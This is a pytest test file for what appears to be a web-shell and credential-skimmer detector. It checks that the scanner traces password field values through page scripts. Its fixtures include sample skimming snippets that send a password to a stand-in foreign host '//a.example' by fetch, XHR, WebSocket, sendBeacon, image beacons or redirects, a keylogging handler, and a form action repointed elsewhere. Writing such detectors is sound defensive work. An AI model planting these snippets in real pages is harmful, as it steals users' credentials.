@@ -1,0 +1,190 @@
+"""What scripts do with a password, followed from the field to where it goes."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from webshellhunt.client_scripts.browsed import Browsed, Script, browse
+from webshellhunt.client_scripts.ways import Destination, Way
+from webshellhunt.decoding.charset import DecodedText
+from webshellhunt.pages.includes.reading import Pulled
+from webshellhunt.pages.page import Pull, PullKind
+
+FIELD = '<form id="f"><input type="password" id="pw"></form>'
+TAKEN = 'p = document.getElementById("pw").value;'
+
+
+def nothing(_address: str, _start: int, _end: int) -> Script | None:
+    return None
+
+
+def browsed(script: str) -> Browsed:
+    return browse(f"{FIELD}<script>{script}</script>", nothing, is_script=False)
+
+
+def roads(script: str) -> list[tuple[Way, Destination]]:
+    return [(leak.way, leak.address.destination) for leak in browsed(script).leaks]
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        'document.getElementById("pw").value',
+        'document.getElementById("p" + "w").value',
+        'document.querySelector("#f #pw").value',
+        'document.querySelector("input[type=password]").value',
+        "document.forms[0].pw.value",
+        'document.forms.f["pw"].value',
+        'document.getElementById("<%= pw.ClientID %>").value',
+        '$("#ctl00_pw").val()',
+        "`a${document.getElementById('pw').value}`",
+        'btoa(JSON.stringify({ a: $("#pw").val().trim() }))',
+        "new FormData(document.forms[0])",
+        '$("#f").serialize()',
+    ],
+)
+def test_a_password_is_known_however_it_is_taken(value: str) -> None:
+    assert roads(f'fetch("//a.example", {value});') == [(Way.REQUEST, Destination.FOREIGN)]
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        'document.getElementById("pw").value.length',
+        'document.getElementById("pw").value == ""',
+        'document.getElementById("pw").value ? 1 : 0',
+        'sha1(document.getElementById("pw").value)',
+        'zxcvbn(document.getElementById("pw").value).score',
+        'document.getElementById("user").value',
+        'document.getElementById("pw").id',
+        '$("#other").serialize()',
+        "new FormData()",
+        "function () { return 1; }",
+    ],
+)
+def test_what_says_nothing_of_the_password_is_let_out(value: str) -> None:
+    assert roads(f'fetch("//a.example", {value});') == []
+
+
+@pytest.mark.parametrize(
+    ("sink", "way", "destination"),
+    [
+        ('x.open("GET", "//a.example/?" + p); x.send();', Way.REQUEST, Destination.FOREIGN),
+        ('x.open("POST", "/login"); x.send(p);', Way.REQUEST, Destination.OWN),
+        ('new Image().src = "/x.gif?" + p;', Way.BEACON, Destination.SENT),
+        ('i.setAttribute("src", "//a.example/" + p);', Way.BEACON, Destination.FOREIGN),
+        ("document.cookie = p;", Way.COOKIE, Destination.KEPT),
+        ("sessionStorage.a = p;", Way.STORAGE, Destination.KEPT),
+        ('localStorage["a"] = p;', Way.STORAGE, Destination.KEPT),
+        ('location.href = "//a.example/?" + p;', Way.NAVIGATION, Destination.FOREIGN),
+        ('w = new WebSocket("wss://a.example"); w.send(p);', Way.SOCKET, Destination.FOREIGN),
+        ('$.ajax({ type: "POST", url: "//a.example", data: p });', Way.REQUEST, Destination.FOREIGN),
+        ('navigator.sendBeacon("//a.example", p);', Way.REQUEST, Destination.FOREIGN),
+        ('var f = new FormData(); f.append("a", p); fetch("//a.example", f);', Way.REQUEST, Destination.FOREIGN),
+        ('function go(u, d) { fetch(u, d); } go("//a.example", p);', Way.REQUEST, Destination.FOREIGN),
+        ('const go = d => { fetch("//a.example", d); }; go(p);', Way.REQUEST, Destination.FOREIGN),
+        ('function q() { return p; } fetch("//a.example", q());', Way.REQUEST, Destination.FOREIGN),
+        ('var h = "//a"; var u = h + ".example"; fetch(u, p);', Way.REQUEST, Destination.FOREIGN),
+    ],
+)
+def test_each_way_out_is_seen(sink: str, way: Way, destination: Destination) -> None:
+    assert (way, destination) in roads(TAKEN + sink)
+
+
+def test_a_name_means_another_variable_in_another_function() -> None:
+    script = 'function a() { var e = document.forms[0].pw.value; } function b(e) { fetch("//a.example", e); }'
+    assert roads(script) == []
+
+
+def test_lines_without_semicolons_are_statements() -> None:
+    assert roads('var a = "x"\nvar p = document.forms[0].pw.value\nfetch("//a.example", a)') == []
+
+
+def test_keys_are_followed_from_their_handler() -> None:
+    script = (
+        'document.onkeypress = log; function log(e) { fetch("/k?" + e.which); } function other(e) { fetch(e.which); }'
+    )
+    (leak,) = browsed(script).leaks
+    assert leak.logs_keys
+
+
+def test_a_form_is_sent_elsewhere() -> None:
+    assert roads('document.forms[0].action = "https://a.example/";') == [(Way.FORM, Destination.FOREIGN)]
+    found = browse('<form action="//a.example/"><input type=password></form>', nothing, is_script=False)
+    assert [address.shown for _, address in found.foreign_forms] == ["a.example"]
+
+
+def test_a_page_without_a_password_field_is_left_alone() -> None:
+    assert browse(f"<script>{TAKEN}document.cookie = p;</script>", nothing, is_script=False).leaks == []
+
+
+def test_a_script_by_itself_knows_usual_names() -> None:
+    text = 'var p = gbid("passwordText").value; document.cookie = p;'
+    (leak,) = browse(text, nothing, is_script=True).leaks
+    script, start, end = browse(text, nothing, is_script=True).place(leak.token)
+    assert (script, text[start:end]) == (None, "cookie")
+    assert browse(text.replace("passwordText", "hint"), nothing, is_script=True).leaks == []
+
+
+def test_a_loaded_script_is_joined_and_leads_back() -> None:
+    code = "function keep(v) { document.cookie = v; }"
+    asked = []
+
+    def read(address: str, start: int, end: int) -> Script:
+        asked.append(address)
+        pulled = Pulled(Pull(PullKind.CLIENT_SCRIPT, address, start, end), "a.js", code.encode())
+        return pulled, DecodedText("ascii", "ascii", code, code.encode())
+
+    page = f'{FIELD}<script src="a.js"></script><script>keep(document.forms[0].pw.value);</script>'
+    found = browse(page, read, is_script=False)
+    (leak,) = found.leaks
+    assert asked == ["a.js"]
+    script, start, end = found.place(leak.token)
+    assert script is not None
+    assert code[start:end] == "cookie"
+    assert leak.trace is not None
+    script, start, end = found.place(leak.trace.token)
+    assert (script, page[start:end]) == (None, "document")
+
+
+PIECES = [
+    "p",
+    "=",
+    "(",
+    ")",
+    "{",
+    "}",
+    "function",
+    "=>",
+    ",",
+    ";",
+    ".value",
+    '"pw"',
+    "$",
+    "fetch",
+    "[",
+    "]",
+    "\n",
+    "var",
+]
+
+
+@given(st.lists(st.sampled_from(PIECES)).map(" ".join))
+def test_any_script_is_read(script: str) -> None:
+    found = browsed(script)
+    for leak in found.leaks:
+        assert found.place(leak.token)[2] > found.place(leak.token)[1]
+
+
+@pytest.mark.parametrize(
+    "piece",
+    ["a=", "x=>", "u=u+u;fetch(u,p);", 'getElementById("a"+"b");', "function f(a){", "((((p))))", "var a "],
+)
+def test_hostile_scripts_are_bounded(piece: str) -> None:
+    started = time.process_time()
+    browsed(TAKEN + piece * (150_000 // len(piece)))
+    assert time.process_time() - started < 10
